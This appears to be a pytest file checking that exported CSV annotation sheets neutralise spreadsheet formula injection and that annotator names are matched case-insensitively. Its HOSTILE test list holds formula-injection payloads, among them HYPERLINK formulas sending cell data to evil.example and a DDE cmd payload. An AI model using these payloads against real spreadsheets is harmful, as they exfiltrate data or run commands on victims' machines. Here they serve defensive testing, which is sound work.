"""Model text in the annotation sheets is never a spreadsheet formula, and reads back as written; an
annotator is one person whatever the case of the name they type."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pytest
from semantic_helpers import OracleJudge
from starlette.testclient import TestClient
from view_helpers import A, B, blank_sheet, client, csrf_of

from forgegate.semantic.codebook import TextSample, build_codebook, freeze
from forgegate.semantic.relevance import read_labels, write_labels
from forgegate.semantic.sheets import read_sheet, relevance_sheet, validation_sheet, write_filled_sheet
from forgegate.textsafe import FORMULA_STARTS, original_cell, spreadsheet_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', '=HYPERLINK("http://evil.example/?x=2")',
           "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTAB first", "\rCR first", "'already quoted", "plain"]


def _raw_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row]


@pytest.mark.parametrize("text", [*HOSTILE, "", "'", "''=x", "=", "a=b"])
def test_a_cell_is_neutralised_and_restored_exactly(text: str) -> None:
    cell = spreadsheet_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert original_cell(cell) == text


def test_exported_sheets_hold_no_formula_and_read_back_the_model_text(tmp_path: Path) -> None:
    samples = [TextSample(task="t1", condition="A", sample=i, text=t) for i, t in enumerate(HOSTILE)]
    book = freeze(build_codebook(samples, {"t1": "=1+1 (the question)"}, OracleJudge())[0])
    relevance, validation = tmp_path / "relevance_sheet.csv", tmp_path / "validation_sheet.csv"
    relevance_sheet(book, relevance, np.random.default_rng(0))
    validation_sheet(book, validation, tmp_path / "validation_key.csv", np.random.default_rng(0))
    for path in (relevance, validation):
        cells = _raw_cells(path)
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], path
        assert any(c.startswith("'=HYPERLINK") for c in cells)
        _, rows = read_sheet(path)
        texts = {v for row in rows for v in row.values()}
        assert HOSTILE[0] in texts and "=1+1 (the question)" in texts  # the reader gives the original back
    filled = tmp_path / "relevance_sheet.ana.csv"
    _, rows = read_sheet(relevance)
    write_filled_sheet(relevance, filled, "cluster", "relevant", {r["cluster"]: 1 for r in rows})
    assert not [c for c in _raw_cells(filled) if c.startswith(FORMULA_STARTS)]
    assert read_sheet(filled)[1][0]["exemplar_1"] == rows[0]["exemplar_1"]


def test_labels_keep_a_cluster_id_that_starts_like_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "adjudication.csv"
    write_labels(path, {"=c1": 1, "-c2": 0, "c3": 1})
    assert not [c for c in _raw_cells(path) if c.startswith(FORMULA_STARTS)]
    assert read_labels(path) == {"=c1": 1, "-c2": 0, "c3": 1}


def _annotate(web: TestClient, name: str, labels: dict[str, int], csrf: str) -> int:
    data = {"csrf": csrf, "annotator": name, **{f"label-{i}": str(v) for i, v in enumerate(labels.values())}}
    return web.post("/sheets/0/annotate", data=data, follow_redirects=False).status_code


def test_a_name_in_other_case_is_the_same_annotator_not_a_third(tmp_path: Path) -> None:
    sheet = blank_sheet(tmp_path / "relevance_sheet.csv")
    web = client(tmp_path / "store", sheets=(sheet,), author="Carol")
    csrf = csrf_of(web.get("/sheets/0/annotate?annotator=ana").text)
    assert _annotate(web, "ana", A, csrf) == 303
    assert _annotate(web, "bob", B, csrf) == 303
    assert _annotate(web, "Ana", B, csrf) == 303  # ana, correcting her labels
    files = sorted(p.name for p in tmp_path.glob("relevance_sheet.*.csv"))
    assert files == ["relevance_sheet.ana.csv", "relevance_sheet.bob.csv"]
    assert read_labels(tmp_path / "relevance_sheet.ana.csv") == B
    assert web.get("/sheets/0/annotate?annotator=BOB").status_code == 200  # bob is not locked out
    assert _annotate(web, "BOB", A, csrf) == 303 and read_labels(tmp_path / "relevance_sheet.bob.csv") == A
    third = web.get("/sheets/0/annotate?annotator=Dan")
    assert third.status_code == 403 and "already has two annotators (ana, bob)" in third.text


def test_a_new_name_is_kept_in_lower_case(tmp_path: Path) -> None:
    sheet = blank_sheet(tmp_path / "relevance_sheet.csv")
    web = client(tmp_path / "store", sheets=(sheet,), author="Carol")
    csrf = csrf_of(web.get("/sheets/0/annotate?annotator=ana").text)
    assert _annotate(web, "Ana", A, csrf) == 303
    assert (tmp_path / "relevance_sheet.ana.csv").is_file()
